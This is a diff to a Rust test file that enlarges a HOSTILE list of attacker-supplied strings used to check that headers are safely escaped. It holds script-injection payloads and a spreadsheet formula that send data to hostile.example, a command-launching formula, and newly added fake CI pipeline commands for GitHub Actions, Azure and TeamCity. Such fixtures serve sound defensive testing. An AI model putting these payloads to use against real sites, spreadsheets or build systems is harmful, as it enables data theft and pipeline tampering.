@@ -9,7 +9,7 @@ use quick_xml::{Reader, XmlVersion};
 use super::{line, run, run_with_input};
 
 /// What strangers may write into a header to be taken for something else.
-pub(crate) const HOSTILE: [&str; 44] = [
+pub(crate) const HOSTILE: [&str; 56] = [
     "<script>document.title='owned'</script>",
     "<img src=http://hostile.example/i onerror=document.title='owned'>",
     "<svg onload=document.title='owned'><a href=http://hostile.example/>",
@@ -54,6 +54,18 @@ pub(crate) const HOSTILE: [&str; 44] = [
     "\u{ff1d}1+1 ;=1+1",
     "=HYPERLINK(\"http://hostile.example/\"&A1,\"open\")",
     "'=cmd|'/C calc'!A0,\"=1+1",
+    "x;=1+1;y; @SUM(1,1)",
+    ";=1+1\";=1+1",
+    "::add-mask::a ::set-output name=x::owned",
+    "\u{a0} ::stop-commands::owned",
+    "##[add-mask]e ###[group]a",
+    "##vso[task.setvariable variable=PATH]owned",
+    "##teamcity[buildStatus status='SUCCESS']",
+    "--- group +++ group ~~~ group",
+    ":",
+    "arn:aws:iam::add-mask::a/arn:aws:iam::add-mask::a/arn:aws:iam::add-mask::a/arn:aws:iam::a::a",
+    "\u{34f}\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2800}\u{fe0f}\u{e0100}",
+    "\u{1d173}\u{1bca0}\u{13430}\u{fdd0}\u{1fffe}\u{17b4}",
 ];
 
 /// A requester that is nothing but a name where that could be a formula, and else a user's ARN.
